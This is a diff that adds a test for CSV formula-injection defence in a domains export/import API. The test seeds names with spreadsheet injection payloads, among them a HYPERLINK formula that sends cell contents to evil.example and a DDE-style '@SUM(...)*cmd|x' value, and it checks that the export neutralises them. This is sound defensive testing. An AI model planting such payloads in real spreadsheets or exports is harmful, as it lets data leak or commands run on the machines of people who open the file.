@@ -206,6 +206,35 @@ describe('domains CSV import and export', () => {
     expect(await count('registrar')).toBe(1);
   });
 
+  it('exports no cell a spreadsheet would run as a formula, and that export imports back unchanged', async () => {
+    // Client and registrar names as an attacker with a staff login or a registrar's mail could set
+    // them. (Tab- and CR-led values are in domain-csv.spec.ts: names are trimmed on the way in.)
+    const clients = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '-Minus Art', "'=1+1 Studio", '+1 555 0100 Studio', "'Quote Studio"];
+    const registrars = ['@SUM(1+1)*cmd|x', '+Registrar', "'Gandi", '＝Fullwidth'];
+    const ids = [];
+    for (const name of clients) ids.push(await addClient(name));
+    for (const [i, id] of ids.entries()) {
+      await t.http().post('/api/domains').set(admin()).send({ name: `formula-${i}.com`, clientId: id, registrar: registrars[i % registrars.length] }).expect(201);
+    }
+    const exported = await t.http().get('/api/domains/export.csv').set(admin()).expect(200);
+    expect(exported.text.split('\n').slice(1, 6)).toEqual([
+      `formula-0.com,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'@SUM(1+1)*cmd|x,,,`,
+      "formula-1.com,'-Minus Art,'+Registrar,,,",
+      "formula-2.com,''=1+1 Studio,'Gandi,,,",
+      "formula-3.com,'+1 555 0100 Studio,'＝Fullwidth,,,",
+      "formula-4.com,'Quote Studio,'@SUM(1+1)*cmd|x,,,",
+    ]);
+
+    const before = (await t.http().get('/api/domains').set(admin()).expect(200)).body;
+    const res = await importCsv(exported.text).expect(200);
+    expect(res.body.rows.filter((r: { result: string }) => r.result !== 'updated')).toEqual([]);
+    expect((await t.http().get('/api/domains').set(admin()).expect(200)).body).toEqual(before);
+    expect(before.items.map((d: { clientId: string }) => d.clientId)).toEqual(ids);
+    expect((await db.query('SELECT name FROM registrar ORDER BY name')).map((r: { name: string }) => r.name).sort()).toEqual([...registrars].sort());
+    const again = await t.http().get('/api/domains/export.csv').set(admin()).expect(200);
+    expect(again.text).toBe(exported.text);
+  });
+
   it('exports a header alone when there are no domains', async () => {
     const res = await t.http().get('/api/domains/export.csv').set(admin()).expect(200);
     expect(res.text).toBe(`${HEADER}\n`);
